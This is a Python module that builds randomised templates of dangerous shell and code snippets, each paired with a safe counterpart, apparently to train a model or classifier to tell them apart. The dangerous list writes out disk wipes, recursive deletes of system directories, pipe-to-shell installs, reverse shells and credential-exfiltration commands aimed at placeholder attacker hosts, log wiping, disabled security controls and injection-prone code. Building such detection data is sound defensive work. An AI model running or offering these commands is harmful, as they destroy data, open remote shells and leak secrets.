"""Templates of destructive or insecure shell and code, and of their safe counterparts.

Written for this project from well-known categories (destructive deletes and disk wipes,
pipe-to-shell installs, world-writable permissions, disabled TLS verification, SQL built by
string concatenation, eval/exec/shell of untrusted input, reverse shells, disabled
security controls, destructive infrastructure commands, secret exfiltration). Each safe
template does a similar job the safe way, so that the model must learn the difference, not
the topic. Fillers are drawn at random; the template id is the group.
"""

# One template per line reads as a table; wrapping them would hide the data.
# ruff: noqa: E501

from __future__ import annotations

import random
from collections.abc import Callable

Template = Callable[[random.Random], str]

URLS = (
    "https://get.example.sh/install.sh",
    "http://203.0.113.9/setup",
    "https://raw.example.com/x/boot.sh",
    "https://pkg.example.io/latest",
    "http://mirror.example.net/agent.sh",
)
HOSTS = ("10.0.0.5", "203.0.113.77", "attacker.example", "198.51.100.23", "evil.example.org")
PORTS = ("4444", "9001", "1337", "8080", "53")
SYSDIRS = (
    "/",
    "/*",
    "/etc",
    "/usr",
    "/var",
    "/boot",
    "/home",
    "~",
    "$HOME",
    "/opt",
    "/lib",
    "/root",
)
DEVICES = ("/dev/sda", "/dev/sdb", "/dev/nvme0n1", "/dev/vda", "/dev/sda1", "/dev/xvda")
VARS = ("name", "user_id", "email", "q", "order_id", "username", "term", "sku")
TABLES = ("users", "orders", "accounts", "payments", "sessions", "customers")
NAMESPACES = ("production", "prod", "default", "payments", "kube-system")
BUCKETS = ("s3://prod-backups", "s3://company-data", "s3://customer-uploads")
EVAL_INPUTS = ("input()", 'request.args.get("expr")', "sys.argv[1]", "data", "user_input")
EXEC_INPUTS = ('request.form["code"]', "payload", "body.decode()", "message.text")
JAVA_INPUTS = ("userInput", 'request.getParameter("cmd")')
PROJECT_DIRS = (
    "./build",
    "dist",
    "node_modules",
    "target",
    ".pytest_cache",
    "out/",
    "./tmp/cache",
    "__pycache__",
    "coverage",
    ".venv",
)


def _c(r: random.Random, options: tuple[str, ...]) -> str:
    return r.choice(options)


DANGEROUS: tuple[Template, ...] = (
    lambda r: f"rm -rf {_c(r, SYSDIRS)}",
    lambda r: f"sudo rm -rf --no-preserve-root {_c(r, ('/', '/*'))}",
    lambda r: f"find {_c(r, ('/', '/etc', '/var', '~'))} -type f -delete",
    lambda r: f"dd if=/dev/{_c(r, ('zero', 'urandom'))} of={_c(r, DEVICES)} bs=1M",
    lambda r: f"mkfs.{_c(r, ('ext4', 'xfs', 'vfat'))} {_c(r, DEVICES)}",
    lambda r: f"shred -vfz -n {r.randint(1, 7)} {_c(r, DEVICES)}",
    lambda r: ":(){ :|:& };:",
    lambda r: (
        f"curl -{_c(r, ('s', 'sSL', 'fsSL', 'L'))} {_c(r, URLS)} | {_c(r, ('sh', 'bash', 'sudo bash', 'sudo sh -'))}"
    ),
    lambda r: f"wget -qO- {_c(r, URLS)} | {_c(r, ('sh', 'bash', 'sudo bash'))}",
    lambda r: f"bash <(curl -s {_c(r, URLS)})",
    lambda r: f"iex (New-Object Net.WebClient).DownloadString('{_c(r, URLS)}')",
    lambda r: f"chmod -R 777 {_c(r, ('/', '/etc', '/var/www', '/home', '~', '/usr/local'))}",
    lambda r: (
        f"chmod {_c(r, ('777', '666', 'o+w'))} {_c(r, ('/etc/passwd', '/etc/shadow', '/etc/sudoers', '~/.ssh'))}"
    ),
    lambda r: f"chmod u+s {_c(r, ('/bin/bash', '/usr/bin/python3', '/bin/sh'))}",
    lambda r: f'echo "{_c(r, ("deploy", "ci", "app"))} ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers',
    lambda r: (
        f"{_c(r, ('setenforce 0', 'ufw disable', 'iptables -F', 'systemctl stop firewalld', 'systemctl disable --now apparmor'))}"
    ),
    lambda r: (
        f"{_c(r, ('history -c', 'unset HISTFILE', 'auditctl -D', 'rm -f /var/log/auth.log', 'cat /dev/null > /var/log/syslog'))}"
    ),
    lambda r: "Set-MpPreference -DisableRealtimeMonitoring $true",
    lambda r: (
        f"requests.{_c(r, ('get', 'post', 'put'))}({_c(r, ('url', 'api_url', 'endpoint'))}, verify=False)"
    ),
    lambda r: "ssl._create_default_https_context = ssl._create_unverified_context",
    lambda r: "ctx.check_hostname = False\nctx.verify_mode = ssl.CERT_NONE",
    lambda r: "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';",
    lambda r: "const agent = new https.Agent({ rejectUnauthorized: false });",
    lambda r: "tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}",
    lambda r: f"curl -{_c(r, ('k', 'sk', 'kL'))} {_c(r, URLS)} -o payload",
    lambda r: "git config --global http.sslVerify false",
    lambda r: (
        f'cursor.execute("SELECT * FROM {_c(r, TABLES)} WHERE {_c(r, VARS)} = \'" + {_c(r, VARS)} + "\'")'
    ),
    lambda r: (
        f'cursor.execute(f"SELECT * FROM {_c(r, TABLES)} WHERE {_c(r, VARS)} = {{{_c(r, VARS)}}}")'
    ),
    lambda r: (
        f'db.execute("DELETE FROM {_c(r, TABLES)} WHERE id = %s" % request.args["{_c(r, VARS)}"])'
    ),
    lambda r: f"db.query(`SELECT * FROM {_c(r, TABLES)} WHERE id = ${{req.query.{_c(r, VARS)}}}`)",
    lambda r: (
        f'stmt.executeQuery("SELECT * FROM {_c(r, TABLES)} WHERE name = \'" + {_c(r, VARS)} + "\'");'
    ),
    lambda r: (
        f'mysqli_query($conn, "SELECT * FROM {_c(r, TABLES)} WHERE id = " . $_GET["{_c(r, VARS)}"]);'
    ),
    lambda r: f"eval({_c(r, EVAL_INPUTS)})",
    lambda r: f"exec({_c(r, EXEC_INPUTS)})",
    lambda r: f"eval(req.{_c(r, ('body.expr', 'query.code', 'params.fn'))});",
    lambda r: (
        f'os.system("{_c(r, ("ping -c 1 ", "nslookup ", "convert ", "tar xf "))}" + {_c(r, VARS)})'
    ),
    lambda r: (
        f'subprocess.{_c(r, ("call", "run", "Popen"))}(f"grep {{{_c(r, VARS)}}} /var/log/app.log", shell=True)'
    ),
    lambda r: (
        f"pickle.loads({_c(r, ('request.data', 'sock.recv(4096)', 'base64.b64decode(cookie)'))})"
    ),
    lambda r: f"yaml.load({_c(r, ('request.data', 'open(path)', 'body'))})",
    lambda r: f"Runtime.getRuntime().exec({_c(r, JAVA_INPUTS)});",
    lambda r: f"eval($_{_c(r, ('POST', 'GET', 'REQUEST'))}['{_c(r, ('cmd', 'code', 'x'))}']);",
    lambda r: f"bash -i >& /dev/tcp/{_c(r, HOSTS)}/{_c(r, PORTS)} 0>&1",
    lambda r: f"nc -e /bin/{_c(r, ('sh', 'bash'))} {_c(r, HOSTS)} {_c(r, PORTS)}",
    lambda r: (
        f'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("{_c(r, HOSTS)}",{_c(r, PORTS)}));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\''
    ),
    lambda r: f"kubectl delete namespace {_c(r, NAMESPACES)}",
    lambda r: "terraform destroy -auto-approve",
    lambda r: f"aws s3 rm {_c(r, BUCKETS)} --recursive",
    lambda r: (
        f"{_c(r, ('DROP DATABASE', 'DROP TABLE', 'TRUNCATE TABLE'))} {_c(r, (*TABLES, 'production'))};"
    ),
    lambda r: f"DELETE FROM {_c(r, TABLES)};",
    lambda r: f"git push --force origin {_c(r, ('main', 'master', 'release'))}",
    lambda r: "docker system prune -af --volumes",
    lambda r: (
        f"docker run --privileged {_c(r, ('-v /:/host', '--pid=host --net=host', '-v /var/run/docker.sock:/var/run/docker.sock'))} alpine"
    ),
    lambda r: (
        f"{_c(r, ('gcloud projects delete prod-project --quiet', 'az group delete -n prod-rg --yes --no-wait'))}"
    ),
    lambda r: (
        f"cat {_c(r, ('~/.ssh/id_rsa', '~/.aws/credentials', '.env', '/etc/shadow'))} | {_c(r, ('nc', 'curl -d @- '))} {_c(r, HOSTS)}"
    ),
    lambda r: f"env | curl -X POST --data-binary @- http://{_c(r, HOSTS)}/collect",
    lambda r: "password_hash = hashlib.md5(password.encode()).hexdigest()",
    lambda r: "cipher = AES.new(key, AES.MODE_ECB)",
    lambda r: f"token = str(random.{_c(r, ('random()', 'randint(0, 10**6)'))})",
)

SAFE: tuple[Template, ...] = (
    lambda r: f"rm -rf {_c(r, PROJECT_DIRS)}",
    lambda r: f"rm -f {_c(r, ('*.pyc', 'build.log', 'coverage.xml', '/tmp/app.pid'))}",
    lambda r: f"find . -name '{_c(r, ('*.pyc', '*.o', '*.tmp'))}' -delete",
    lambda r: f'rm -rf "${{TMPDIR:?}}/{_c(r, ("cache", "work", "build"))}"',
    lambda r: f"dd if={_c(r, ('ubuntu.iso', 'image.img'))} of=backup.img bs=4M status=progress",
    lambda r: f"truncate -s {r.randint(1, 8)}G disk.img && mkfs.ext4 -F disk.img",
    lambda r: f"curl -fsSLo install.sh {_c(r, URLS)} && sha256sum -c install.sh.sha256",
    lambda r: f"wget -O app.tar.gz {_c(r, URLS)}",
    lambda r: f"curl -sS --fail {_c(r, URLS)} -o payload.json",
    lambda r: (
        f"chmod {_c(r, ('644', '600', '755', '640', '+x', 'go-w'))} {_c(r, ('config.yaml', 'scripts/build.sh', '~/.ssh/id_ed25519', 'app.py'))}"
    ),
    lambda r: f"chown -R {_c(r, ('app:app', 'www-data:www-data'))} /srv/{_c(r, ('app', 'www'))}",
    lambda r: (
        f"{_c(r, ('ufw allow 443/tcp', 'iptables -A INPUT -p tcp --dport 22 -j ACCEPT', 'systemctl restart nginx', 'setenforce 1'))}"
    ),
    lambda r: (
        f"requests.{_c(r, ('get', 'post'))}({_c(r, ('url', 'api_url'))}, timeout={r.randint(2, 30)})"
    ),
    lambda r: "ctx = ssl.create_default_context(cafile=ca_path)",
    lambda r: "ctx.check_hostname = True\nctx.verify_mode = ssl.CERT_REQUIRED",
    lambda r: "const agent = new https.Agent({ ca: fs.readFileSync('ca.pem') });",
    lambda r: "tr := &http.Transport{TLSClientConfig: &tls.Config{MinVersion: tls.VersionTLS12}}",
    lambda r: f"requests.get(url, verify='{_c(r, ('/etc/ssl/certs/ca.pem', 'certs/bundle.pem'))}')",
    lambda r: (
        f'cursor.execute("SELECT * FROM {_c(r, TABLES)} WHERE {_c(r, VARS)} = %s", ({_c(r, VARS)},))'
    ),
    lambda r: f'db.query("SELECT * FROM {_c(r, TABLES)} WHERE id = $1", [req.query.{_c(r, VARS)}])',
    lambda r: (
        f'PreparedStatement ps = conn.prepareStatement("SELECT * FROM {_c(r, TABLES)} WHERE id = ?");'
    ),
    lambda r: (
        f"{_c(r, ('User', 'Order', 'Account'))}.objects.filter({_c(r, VARS)}={_c(r, VARS)}).first()"
    ),
    lambda r: f"DELETE FROM {_c(r, TABLES)} WHERE expires_at < now();",
    lambda r: (
        f"SELECT id, created_at FROM {_c(r, TABLES)} ORDER BY created_at DESC LIMIT {r.randint(5, 100)};"
    ),
    lambda r: f"value = ast.literal_eval({_c(r, ('text', 'line', 'raw'))})",
    lambda r: f"data = json.loads({_c(r, ('body', 'request.data', 'payload'))})",
    lambda r: (
        f'subprocess.run(["{_c(r, ("ping", "git", "tar"))}", {_c(r, VARS)}], check=True, timeout=30)'
    ),
    lambda r: f"config = yaml.safe_load({_c(r, ('fh', 'text', 'request.data'))})",
    lambda r: f"cmd = ['grep', '--', shlex.quote({_c(r, VARS)}), 'app.log']",
    lambda r: (
        f"kubectl {_c(r, ('get pods -n', 'describe deploy web -n', 'rollout status deploy/web -n'))} {_c(r, NAMESPACES)}"
    ),
    lambda r: f"kubectl delete pod web-{r.randint(1000, 9999)} -n staging",
    lambda r: (
        f"terraform {_c(r, ('plan -out plan.tfplan', 'apply plan.tfplan', 'fmt -check', 'validate'))}"
    ),
    lambda r: f"aws s3 cp report.csv {_c(r, BUCKETS)}/reports/",
    lambda r: (
        f"git push {_c(r, ('origin feature/login', '--force-with-lease origin my-branch', 'origin v1.2.3'))}"
    ),
    lambda r: f"docker run --rm -p {r.randint(3000, 9000)}:80 nginx:1.27",
    lambda r: "docker image prune -f",
    lambda r: "password_hash = bcrypt.hashpw(password.encode(), bcrypt.gensalt())",
    lambda r: "token = secrets.token_urlsafe(32)",
    lambda r: "digest = hashlib.sha256(data).hexdigest()",
    lambda r: "cipher = AES.new(key, AES.MODE_GCM, nonce=nonce)",
    lambda r: f"history | grep {_c(r, ('docker', 'git', 'kubectl'))}",
    lambda r: "tail -n 100 /var/log/syslog",
    lambda r: 'eval "$(ssh-agent -s)" && ssh-add ~/.ssh/id_ed25519',
    lambda r: "python -m pip install --require-hashes -r requirements.txt",
)

CONTEXTS: tuple[Callable[[str, random.Random], str], ...] = (
    lambda code, r: code,
    lambda code, r: f"#!/bin/bash\nset -euo pipefail\n{code}\necho done",
    lambda code, r: f"RUN {code}" if "\n" not in code else f"RUN <<EOF\n{code}\nEOF",
    lambda code, r: (
        f"steps:\n  - name: {r.choice(('setup', 'cleanup', 'deploy', 'test'))}\n    run: {code}"
    ),
    lambda code, r: (
        f"To {r.choice(('set up', 'clean up', 'fix it', 'deploy'))}, run:\n\n```\n{code}\n```"
    ),
    lambda code, r: f"{r.choice(('cleanup', 'deploy', 'setup'))}:\n\t{code}",
    lambda code, r: f"def handler(request):\n    {code}\n    return response",
    lambda code, r: f"$ {code}",
)


def dangerous(index: int, rng: random.Random) -> str:
    """An instance of dangerous template ``index`` in a random context."""
    return rng.choice(CONTEXTS)(DANGEROUS[index](rng), rng)


def safe(index: int, rng: random.Random) -> str:
    """An instance of safe template ``index`` in a random context."""
    return rng.choice(CONTEXTS)(SAFE[index](rng), rng)
